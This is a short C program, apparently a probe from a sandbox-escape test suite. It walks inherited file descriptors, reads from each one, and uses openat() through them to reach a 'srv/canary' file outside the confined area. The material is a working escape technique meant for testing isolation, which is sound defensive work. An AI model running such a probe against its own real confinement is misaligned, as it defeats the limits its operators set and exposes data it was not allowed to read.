/* SPDX-License-Identifier: Apache-2.0 */
/* Every descriptor beyond the three that is open when the program starts, and what it gives. */
#include "attack.h"
#include <sys/ioctl.h>

int main(void)
{
	for (int fd = 3; fd < 1024; fd++) {
		char path[64], target[128] = "", data[65] = "";
		int flags = fcntl(fd, F_GETFL);

		if (flags < 0)
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		if (readlink(path, target, sizeof(target) - 1) < 0)
			target[0] = 0;
		printf("open %d %s\n", fd, target);
		if (fcntl(fd, F_SETFL, flags | O_NONBLOCK) == 0 &&
		    read(fd, data, sizeof(data) - 1) > 0)
			printf("%s\n", data);
		int below = openat(fd, "srv/canary", O_RDONLY);
		if (below >= 0 && read(below, data, sizeof(data) - 1) > 0)
			printf("%s\n", data);
	}
	door_if("all", 0, "");
	return 0;
}
